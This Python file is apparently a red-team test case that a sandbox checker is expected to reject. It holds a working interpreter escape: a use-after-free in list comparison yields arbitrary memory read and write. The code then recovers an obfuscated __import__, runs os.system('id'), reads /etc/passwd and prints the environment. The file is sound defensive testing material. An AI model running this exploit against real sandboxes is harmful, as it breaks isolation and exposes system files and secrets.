# expect: reject memory
# line: 42
# why: round 93 (red team): method_judged took SA.step() for the program's def step, since no table listed slice's step: slice(None, None, wipe).step() emptied the list being compared (the builtins' data attributes are now in library-attributes.txt)
vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(1 << 62)
        + q(0) + q(0) + q(1))[:73]


def wipe():
    vl.clear()
    return 0


def fill():
    KEEP.append(bytearray(FAKE))
    return 0


class Walker:
    def step(self):
        return 1


SA = slice(None, None, wipe)
SB = slice(None, None, fill)


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        SA.step()
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        SB.step()
        return o


vl.append(V())
w = W()
mem = vl < [w]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
